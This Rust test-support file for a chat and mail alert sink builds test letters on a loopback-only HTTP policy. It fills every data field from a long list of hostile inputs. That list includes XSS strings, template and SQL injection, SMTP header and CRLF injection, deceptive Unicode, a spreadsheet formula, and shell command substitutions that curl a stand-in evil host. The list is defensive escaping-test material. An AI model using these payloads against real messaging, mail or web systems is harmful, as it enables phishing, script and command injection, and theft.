//! For the tests of chats and mail: letters whose data is hostile, and a sink's plan on loopback.

use std::collections::BTreeMap;
use std::pin::Pin;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use jiff::Timestamp;
use quell_deliver::outbox::{Act, Remote};
use quell_deliver::text::{Block, Body, Hosts, Line, SafeLink, Span};
use quell_deliver::{Attachment, Key, Label, Letter};
use quell_http::{Client, Egress, Policy, Rate, Retry};
use quell_model::{Clock, Severity, TenantId};
use secrecy::SecretString;

use crate::{Credential, Credentials, Plan, SinkError, Wanted};

/// A clock that a test moves.
#[derive(Debug, Clone)]
pub(crate) struct Hands(pub(crate) Arc<Mutex<Timestamp>>);

impl Hands {
    pub(crate) fn new() -> Self {
        Self(Arc::new(Mutex::new("2026-03-01T10:00:00Z".parse().unwrap())))
    }
}

impl Clock for Hands {
    fn now(&self) -> Timestamp {
        *self.0.lock().unwrap()
    }
}

/// A login that a test changes.
#[derive(Debug, Clone)]
pub(crate) struct Login(pub(crate) Arc<Mutex<(String, String)>>);

impl Login {
    pub(crate) fn new(id: &str, secret: &str) -> Self {
        Self(Arc::new(Mutex::new((id.to_owned(), secret.to_owned()))))
    }
}

impl Credentials for Login {
    fn read(&self) -> Pin<Box<dyn Future<Output = Result<Credential, SinkError>> + Send + '_>> {
        let (id, secret) = self.0.lock().unwrap().clone();
        Box::pin(async move {
            Ok(Credential { id: SecretString::from(id), secret: SecretString::from(secret) })
        })
    }
}

/// A plan for a sink on loopback.
pub(crate) fn plan(url: Option<&str>, login: &Login, options: &[(&str, &str)]) -> Plan {
    let hands = Hands::new();
    let policy = Policy {
        egress: Egress::new(vec!["http://127.0.0.1".parse().unwrap()]),
        retry: Retry {
            attempts: 2,
            first_wait: Duration::from_millis(2),
            longest_wait: Duration::from_millis(20),
            total: Duration::from_secs(30),
        },
        rate: Rate::new(100_000, 1, 100_000),
        ..Policy::default()
    };
    let mut options: BTreeMap<String, String> =
        options.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect();
    Plan {
        name: "chat".to_owned(),
        url: url.map(str::to_owned),
        project: options.remove("project"),
        options,
        credentials: Arc::new(login.clone()),
        client: Client::new(policy, Arc::new(hands.clone())).unwrap(),
        clock: Arc::new(hands),
        hosts: hosts(),
    }
}

pub(crate) fn hosts() -> Hosts {
    Hosts::default().with("https://quell.example/")
}

pub(crate) fn key(round: u32) -> Key {
    Key::new(&TenantId::default(), "chat", "fix:abc", round)
}

pub(crate) fn page() -> SafeLink {
    SafeLink::new("https://quell.example/incidents/abc", &hosts()).unwrap()
}

/// A body with one text in every place that takes data.
pub(crate) fn body(data: &str) -> Body {
    Body(vec![
        Block::Heading(Line::own("What ").and_data(data)),
        Block::Paragraph(
            Line::own("Asset ")
                .and_code(data)
                .and_own(" of ")
                .and_data(data)
                .and(Span::Strong(" strong ".to_owned()))
                .and(Span::Link { words: "see".to_owned(), to: page() }),
        ),
        Block::List(vec![Line::data(data), Line::own("own ").and_code(data)]),
        Block::Steps(vec![Line::own("do ").and_data(data), Line::own("then")]),
        Block::Facts(vec![("Account".to_owned(), Line::data(data))]),
        Block::Code { language: "diff".to_owned(), text: data.into() },
    ])
}

/// A letter with one text in every place that takes data.
pub(crate) fn letter(data: &str) -> Letter {
    Letter {
        key: key(0),
        title: Line::own("Open bucket ").and_data(data),
        body: body(data),
        severity: Severity::High,
        due: Some("2026-03-08T10:00:00Z".parse().unwrap()),
        labels: vec![Label::new("quell"), Label::new(data)],
        files: vec![Attachment {
            name: "evidence.json".to_owned(),
            media_type: "application/json".to_owned(),
            text: data.into(),
        }],
        page: Some(page()),
        owner: Some(data.into()),
        change: None,
        asks: None,
    }
}

/// All acts, each with one text in every place that takes data.
pub(crate) fn acts(data: &str) -> Vec<Act> {
    vec![
        Act::Open { letter: Box::new(letter(data)) },
        Act::Edit { letter: Box::new(letter(data)) },
        Act::Note { body: body(data) },
        Act::Close { body: body(data) },
        Act::Reopen { body: body(data) },
    ]
}

pub(crate) fn wanted<'a>(key: &'a Key, act: &'a Act, remote: Option<&'a Remote>) -> Wanted<'a> {
    Wanted { key, act, remote }
}

/// Texts that try to be more than text: links, mentions, commands, formats, headers, templates.
pub(crate) fn payloads() -> Vec<String> {
    let mut all: Vec<String> = PAYLOADS.iter().map(|text| (*text).to_owned()).collect();
    all.push("A".repeat(20_000));
    all.push("<!channel> ".repeat(1_500));
    all.push("😀\u{202e}".repeat(1_500));
    all.push("[".repeat(2_000) + "x" + &"](https://evil.example)".repeat(500));
    all.push("*_~`".repeat(3_000));
    all.push("a\nb\r\n".repeat(2_000));
    all.push("<div>".repeat(2_500));
    all.push("&".repeat(13_000));
    all.push("\\".repeat(7_000));
    all.push("\u{0}".repeat(3_000));
    all
}

const PAYLOADS: &[&str] = &[
    "<!channel>",
    "<!here|here>",
    "<!everyone>",
    "<@U012AB3CD>",
    "<@U012AB3CD|boss>",
    "<#C024BE7LR|general>",
    "<!subteam^SAZ94GDB8>",
    "<https://evil.example|Sign in>",
    "<mailto:x@evil.example|mail us>",
    "https://evil.example/login",
    "www.evil.example",
    "//evil.example",
    "*bold* _italic_ ~gone~ `code`",
    "```\ncode\n```",
    "> quoted",
    ">>> all of it",
    "&lt;!channel&gt;",
    "&amp;lt;!channel&amp;gt;",
    ":rotating_light: :smile:",
    "<!date^1392734382^{date}^https://evil.example|when>",
    "@channel @here @everyone",
    "/remind me to approve",
    "quell.approve",
    r#"","type":"actions","elements":[{"type":"button"}],"x":""#,
    r#"{"type":"mrkdwn","text":"<!channel>"}"#,
    "[Sign in](https://evil.example)",
    "[x](javascript:alert(1))",
    "![image](https://evil.example/x.png)",
    "<https://evil.example>",
    "[ref]: https://evil.example",
    "**bold** __strong__ # heading",
    "# heading",
    "- item\n- item\n1. one",
    "| a | b |\n|---|---|",
    "\\[not a link\\](https://evil.example)",
    "<at>Boss</at>",
    "<at id=\"0\">Boss</at>",
    "${alert}",
    "${if(true, 'a', 'b')}",
    "$${x}",
    "$\u{200b}{x}",
    "@{triggerBody()}",
    "@{variables('secret')}",
    "{{DATE(2017-02-14T06:08:39Z, SHORT)}}",
    "{{7*7}}",
    "{% include 'x' %}",
    "<%= 7*7 %>",
    "#{7*7}",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"https://evil.example/track.gif\">",
    "<a href=\"https://evil.example\">Sign in</a>",
    "<a href=javascript:alert(1)>x</a>",
    "\"><svg onload=alert(1)>",
    "'\"><style>*{display:none}</style>",
    "</title></head><body><h1>owned",
    "<!--",
    "-->",
    "]]>",
    "<![CDATA[<b>x</b>]]>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<form action=https://evil.example><input name=password>",
    "&#60;script&#62;",
    "&#x3c;script&#x3e;",
    "x\r\nBcc: victim@evil.example",
    "x\nBcc: victim@evil.example\n\n<h1>body</h1>",
    "x\rSubject: other",
    "\r\n.\r\nMAIL FROM:<evil@evil.example>\r\nRCPT TO:<victim@evil.example>\r\nDATA\r\n",
    "\n.\n",
    ".",
    "..",
    "=?UTF-8?B?PHNjcmlwdD4=?=",
    "=?utf-8?q?=0D=0ABcc:_victim@evil.example?=",
    "--quell-boundary\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
    "victim@evil.example, other@evil.example",
    "\"Boss\" <boss@evil.example>",
    "logs\u{202e}gnp.exe",
    "a\u{2066}b\u{2069}c",
    "zero\u{200b}width\u{feff}joined\u{200d}",
    "soft\u{ad}hyphen \u{2060}word joiner",
    "tag\u{e0041}\u{e0042}s",
    "line\u{2028}separator\u{2029}paragraph",
    "\u{1b}[31mred\u{1b}]8;;https://evil.example\u{7}link",
    "nul\u{0}byte",
    "\u{85}next line",
    "tab\tand\u{b}vertical",
    "＜！channel＞ ﹤script﹥",
    "e\u{301}\u{302}\u{303}\u{304}",
    "漢字 größe 😀🇩🇪👩‍👩‍👧",
    "",
    " ",
    "\\",
    "\\u{202e}",
    "'; DROP TABLE outbox; --",
    "$(curl evil.example)",
    "`curl evil.example`",
    "=HYPERLINK(\"https://evil.example\")",
    "tel:+15551234 sms:+15551234",
    "data:text/html,<script>alert(1)</script>",
    "ms-settings:// vscode://evil slack://channel?id=C1",
];
